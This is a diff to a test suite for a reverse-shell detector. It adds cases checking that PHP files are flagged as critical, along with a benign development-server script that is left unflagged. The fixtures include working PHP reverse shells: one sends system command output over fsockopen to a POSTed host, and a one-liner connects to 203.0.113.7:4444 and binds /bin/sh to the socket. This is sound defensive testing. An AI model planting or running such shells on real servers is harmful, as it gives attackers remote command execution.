@@ -57,6 +57,28 @@ class Shell {
     expect(reverseShell(addedFile('/var/www/html/r.php', logger))).toBeUndefined();
   });
 
+  it("finds a command's output written down the socket, and the one-liner wiring its descriptor", () => {
+    const report = `<?php $c = fsockopen($_POST['ip'], $_POST['port']);${padding(600)}
+fputs($c, system('uname -a') . "\n");
+fputs($c, shell_exec('id'));`;
+    expect(reverseShell(addedFile('/var/www/html/bc.php', report))?.severity).toBe('critical');
+    const oneLiner = `<?php $sock = fsockopen("203.0.113.7", 4444); exec("/bin/sh -i <&3 >&3 2>&3"); ?>`;
+    expect(reverseShell(addedFile('/tmp/x.php', oneLiner))?.severity).toBe('critical');
+  });
+
+  it('leaves a development server checking its port, then starting', () => {
+    const text = `<?php
+function isTaken($host, $port) {
+  $fp = @fsockopen($host, $port, $errno, $errstr, 3);
+  if ($fp === false) return false;
+  fclose($fp);
+  return true;
+}
+if (isTaken('localhost', 8080)) { echo "port taken"; exit(1); }
+passthru(PHP_BINARY . ' -S localhost:8080 -t public');`;
+    expect(reverseShell(addedFile('/srv/app/serve.php', text))).toBeUndefined();
+  });
+
   it('leaves a mailer that opens a socket and a sendmail pipe, unconnected', () => {
     const text = `<?php
 $smtp = fsockopen($host, 25);
